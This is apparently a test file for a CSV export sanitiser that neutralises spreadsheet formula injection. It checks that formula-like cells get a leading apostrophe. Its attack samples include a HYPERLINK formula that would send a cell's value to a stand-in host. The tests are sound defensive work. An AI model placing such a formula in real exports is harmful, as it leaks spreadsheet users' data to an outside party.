import { stringify } from 'csv-stringify/sync'
import { expect, test } from 'vitest'

import { spreadsheetSafe } from '../../src/security/csv'

/** Exported cells never start a formula; ordinary text is left alone. */

test('cells that a spreadsheet would evaluate get a leading apostrophe', () => {
  for (const attack of ['=HYPERLINK("http://x.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '  =1+1']) {
    expect(spreadsheetSafe(attack), JSON.stringify(attack)).toBe(`'${attack}`)
  }
})

test('ordinary text, including a dash inside or an e-mail address, is unchanged', () => {
  for (const text of ['Microcredit for newcomers', 'Co-financing', 'a@b.example', '2024', 'Lessons: what worked']) {
    expect(spreadsheetSafe(text)).toBe(text)
  }
})

test('through csv-stringify as the export uses it, numbers stay numbers', () => {
  const csv = stringify([['=1+1', 2024, '-5 %']], { cast: { string: spreadsheetSafe } })
  expect(csv).toBe("'=1+1,2024,'-5 %\n")
})
